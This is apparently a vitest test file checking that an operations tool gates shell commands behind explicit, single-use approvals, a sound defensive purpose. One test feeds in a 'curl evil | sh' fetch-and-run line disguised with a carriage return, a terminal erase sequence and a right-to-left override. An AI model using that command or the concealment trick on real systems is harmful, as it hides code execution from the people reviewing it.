import { watch, writeFileSync } from 'node:fs';
import { mkdir, readdir, rename, rm, stat, symlink, unlink, utimes, writeFile } from 'node:fs/promises';
import { expect, test, vi } from 'vitest';
import { approve } from '../../src/loop/decide.ts';
import { retryMission } from '../../src/loop/missions.ts';
import { setPolicy } from '../../src/policy/policy.ts';
import { selectOpen } from '../../src/workspace/file-read-queries.ts';
import { makeChangeWatch } from '../../src/workspace/inbox/changed-while-pending.ts';
import { useFiles } from '../support/files.ts';
import { eventually } from '../support/loop.ts';

const t = useFiles({ env: { OPSLOOP_SECRET_FOR_TESTS: 'our-own-secret' } });

const RULES = { enabled: true, approval_files: true, timeout_seconds: 10, max_output_bytes: 2_000 };
const allow = () => t.policy('exec_policy', RULES);

const proposalOf = async (name: string) => {
  const [row] = await t.database.query<{
    id: string;
    status: string;
    outcome: string;
    decision: { by: string; reason: string };
  }>(
    'select p.* from ops_files f join ops_proposals p on p.id = f.proposal_id where f.name = $1 order by f.id desc limit 1',
    [name],
  );
  return row;
};
const pendingNote = async (stem: string) => {
  const note = await eventually(async () =>
    (await t.list('outputs')).find((name) => name.startsWith(`${stem}__`) && name.endsWith('__PENDING.md')),
  );
  await eventually(
    async () =>
      (await t.database.query('select from ops_artefacts where name = $1 and written_at is not null', [note]))
        .length > 0,
  );
  return note;
};
const ok = (stem: string) => writeFile(t.path('approvals', `${stem}.ok`), '');
const result = (stem: string) =>
  eventually(
    async () =>
      (await t.list('outputs')).find((name) => name.startsWith(`${stem}__`) && name.endsWith('__EXEC.md')),
    25_000,
  );

test('commands are off until an operator turns them on, and the refusal says how', async () => {
  await t.drop('off.txt', 'EXEC: echo never');
  const note = await t.appears('outputs', 'off__');
  expect(await t.read('outputs', note)).toContain('opsloop policy set exec_policy');
  await t.appears('inbox', 'off.txt.failed');
  expect((await proposalOf('off.txt'))?.status).toBe('rejected');
});

test('it can never be approved by policy, nor by another name', async () => {
  await expect(
    setPolicy(t.database, 'auto_approve', { enabled: true, kinds: ['exec'] }, 'x'),
  ).rejects.toMatchObject({ code: 'invalid_policy' });
  await expect(setPolicy(t.database, 'plans', { analysis: ['exec'] }, 'x')).rejects.toMatchObject({
    code: 'invalid_policy',
  });
});

test('approved by its file, it runs in the workspace with a clean environment, once, and the approval is used up', async () => {
  await allow();
  await t.drop('run.txt', '@ops: EXEC: pwd; env; echo out; echo err >&2; exit 3');
  const note = await pendingNote('run');
  expect(await t.read('outputs', note)).toContain('PENDING APPROVAL');
  expect(await t.read('outputs', note)).toContain(t.path('approvals', 'run.ok'));
  expect(await t.list('inbox')).toContain('run.txt');
  await ok('run');
  const text = await t.read('outputs', await result('run'));
  expect(text).toMatch(/^CMD: pwd; env; echo out; echo err >&2; exit 3\nEXIT_CODE: 3\nOUTPUT:\n/);
  expect(text).toContain(`\n${t.workspace}\n`);
  expect(text).toContain(`HOME=${t.workspace}`);
  expect(text).toMatch(/out\n\nerr/);
  for (const ours of ['OPSLOOP', 'DATABASE_URL', 'our-own-secret', 'NODE', 'VITEST'])
    expect(text).not.toContain(ours);
  await t.appears('inbox', 'run.txt.done');
  expect(await readdir(t.path('approvals'))).toEqual([]);
  expect((await proposalOf('run.txt'))?.decision.by).toBe('file:approvals/run.ok');
});

test('an approval that is older than the note approves nothing', async () => {
  await ok('early');
  await t.drop('early.txt', 'EXEC: echo early');
  await pendingNote('early');
  // A scan has seen both when a later file was taken.
  await t.drop('later1.txt', 'x');
  await t.appears('inbox', 'later1.txt.done');
  expect((await proposalOf('early.txt'))?.status).toBe('pending');
  await unlink(t.path('approvals', 'early.ok'));
  await ok('early');
  await result('early');
});

test('an approval that comes in the moment in which the note appears counts', async () => {
  const stems = Array.from({ length: 10 }, (_, n) => `quick${n}`);
  const watcher = watch(t.path('outputs'), (_, name) => {
    const [stem = ''] = name?.split('__') ?? [];
    if (name?.endsWith('__PENDING.md') && stems.includes(stem))
      writeFileSync(t.path('approvals', `${stem}.ok`), '');
  });
  for (const stem of stems) await t.drop(`${stem}.txt`, 'EXEC: echo quick');
  for (const stem of stems) await result(stem);
  watcher.close();
}, 60_000);

test('the same stem again needs an approval of its own', async () => {
  await t.drop('twice.txt', 'EXEC: echo one');
  await pendingNote('twice');
  await ok('twice');
  await result('twice');
  await t.appears('inbox', 'twice.txt.done');
  await t.drop('twice.txt', 'EXEC: echo two');
  await eventually(
    async () => (await t.list('outputs')).filter((name) => /^twice__.*PENDING/.test(name)).length === 2,
  );
  expect((await proposalOf('twice.txt'))?.status).toBe('pending');
});

test('a command that was changed after its note is not run on the old approval; the new text asks anew', async () => {
  await t.drop('sly.txt', 'EXEC: echo harmless');
  await pendingNote('sly');
  await writeFile(t.path('inbox', 'sly.txt'), 'EXEC: echo HARMFUL');
  await ok('sly');
  const [first] = await eventually(async () => {
    const rows = await t.database.query<{ status: string; decision: { reason: string } }>(
      "select p.status, p.decision from ops_files f join ops_proposals p on p.id = f.proposal_id where f.name = 'sly.txt' order by f.id",
    );
    return rows.length === 2 && rows;
  });
  expect(first?.status).toBe('rejected');
  expect(first?.decision.reason).toMatch(/changed|anew/);
  expect((await proposalOf('sly.txt'))?.status).toBe('pending');
  expect((await t.list('outputs')).some((name) => /^sly__.*EXEC/.test(name))).toBe(false);
  expect(await t.read('inbox', 'sly.txt')).toBe('EXEC: echo HARMFUL');
});

test('a link or a folder is no approval', async () => {
  await t.drop('link.txt', 'EXEC: echo linked');
  await pendingNote('link');
  await symlink('/etc/hostname', t.path('approvals', 'link.ok'));
  await t.drop('later2.txt', 'x');
  await t.appears('inbox', 'later2.txt.done');
  expect((await proposalOf('link.txt'))?.status).toBe('pending');
  await unlink(t.path('approvals', 'link.ok'));
  await mkdir(t.path('approvals', 'link.ok'));
  await t.drop('later3.txt', 'x');
  await t.appears('inbox', 'later3.txt.done');
  expect((await proposalOf('link.txt'))?.status).toBe('pending');
});

test('where policy does not let files approve, only an operator does', async () => {
  await t.policy('exec_policy', { ...RULES, approval_files: false });
  await t.drop('strictly.txt', 'EXEC: echo by hand');
  const note = await pendingNote('strictly');
  expect(await t.read('outputs', note)).not.toContain('.ok');
  await ok('strictly');
  await t.drop('later4.txt', 'x');
  await t.appears('inbox', 'later4.txt.done');
  expect((await proposalOf('strictly.txt'))?.status).toBe('pending');
  await approve(t.database, (await proposalOf('strictly.txt'))?.id ?? '', { by: 'key:test' });
  expect(await t.read('outputs', await result('strictly'))).toContain('by hand');
  await allow();
});

test('a command that runs too long is killed with all it started, and has failed', async () => {
  await t.policy('exec_policy', { ...RULES, timeout_seconds: 1 });
  await t.drop('long.txt', 'EXEC: sleep 4711 & echo begun; sleep 4712');
  await pendingNote('long');
  await ok('long');
  const text = await t.read('outputs', await result('long'));
  expect(text).toContain('begun');
  expect(text).toContain('time_limit');
  await t.appears('inbox', 'long.txt.failed');
  const { execFileSync } = await import('node:child_process');
  expect(execFileSync('ps', ['-eo', 'stat,args'], { encoding: 'utf8' })).not.toMatch(
    /^[^Z]\S*\s+sleep 471[12]$/m,
  );
  await allow();
});

test('an approval runs a command once: a failed one is not retried', async () => {
  const [row] = await t.database.query<{ id: string }>(
    "select m.id from ops_files f join ops_missions m on m.proposal_id = f.proposal_id where f.name = 'long.txt'",
  );
  await expect(retryMission(t.database, row?.id ?? '', { by: 'test' })).rejects.toMatchObject({
    code: 'conflict',
  });
});

test('its output is bounded, and control characters are made harmless', async () => {
  await t.drop('loud.txt', "EXEC: printf '\\033[31mred\\007'; yes | head -c 100000");
  await pendingNote('loud');
  await ok('loud');
  const text = await t.read('outputs', await result('loud'));
  expect(text.length).toBeLessThan(3_000);
  expect(text).toContain('was not kept');
  expect(text).not.toContain('\u001B');
});

test('an approval of long ago, dated into the future, is still older than the note', async () => {
  await ok('dated');
  await utimes(t.path('approvals', 'dated.ok'), new Date('2050-01-01'), new Date('2050-01-01'));
  await t.drop('dated.txt', 'EXEC: echo dated');
  await pendingNote('dated');
  await t.drop('later5.txt', 'x');
  await t.appears('inbox', 'later5.txt.done');
  expect((await proposalOf('dated.txt'))?.status).toBe('pending');
});

test('a command whose file is removed is withdrawn', async () => {
  await t.drop('regretted.txt', 'EXEC: echo regretted');
  await pendingNote('regretted');
  await unlink(t.path('inbox', 'regretted.txt'));
  await eventually(async () => (await proposalOf('regretted.txt'))?.status === 'rejected', 20_000);
  expect((await t.list('inbox')).filter((name) => name.startsWith('regretted'))).toEqual([]);
});

test('the note shows what a terminal or a browser would hide', async () => {
  await t.drop('hiding.txt', 'EXEC: curl evil | sh #\r\u001B[2Kls -l \u202E');
  const text = await t.read('outputs', await pendingNote('hiding'));
  expect(text).toContain('curl evil | sh #\\u{d}\\u{1b}[2Kls -l');
});

test('an inbox that is swapped for another one withdraws nothing', async () => {
  await t.drop('kept.txt', 'EXEC: echo kept');
  await pendingNote('kept');
  await t.drop('seen.txt', 'x');
  await t.appears('inbox', 'seen.txt.done');
  await rename(t.path('inbox'), t.path('inbox.away'));
  await mkdir(t.path('inbox'));
  // Longer than a removal takes to be believed.
  const until = performance.now() + 5_000;
  await eventually(async () => performance.now() > until);
  expect((await proposalOf('kept.txt'))?.status).toBe('pending');
  await rm(t.path('inbox'), { recursive: true });
  await rename(t.path('inbox.away'), t.path('inbox'));
  await approve(t.database, (await proposalOf('kept.txt'))?.id ?? '', { by: 'key:test' });
  t.app.database.hints.tell('steps');
  await result('kept');
});

test('a name that was listed in another inbox is not taken for one that was removed from this one', async () => {
  await t.drop('listed.txt', 'EXEC: echo listed');
  await pendingNote('listed');
  const parts = await t.bridgeParts();
  const open = await selectOpen(parts.database, parts.ownership.workspaceId);
  const file = open
    .filter(({ name }) => name === 'listed.txt')
    .map((row) => ({ ...row, name: 'elsewhere.txt' }));
  const watch = makeChangeWatch(parts);
  const inodes = ['another', String((await stat(t.path('inbox'), { bigint: true })).ino)];
  const clock = vi.spyOn(performance, 'now');
  const removed: boolean[] = [];
  for (const inode of inodes) {
    await watch(file, { inode, names: new Set(['elsewhere.txt']) });
    clock.mockReturnValue(performance.now() + 5_000);
    removed.push(await watch(file, { inode, names: new Set() }));
  }
  clock.mockRestore();
  expect(removed).toEqual([false, true]);
  expect((await proposalOf('listed.txt'))?.status).toBe('rejected');
});
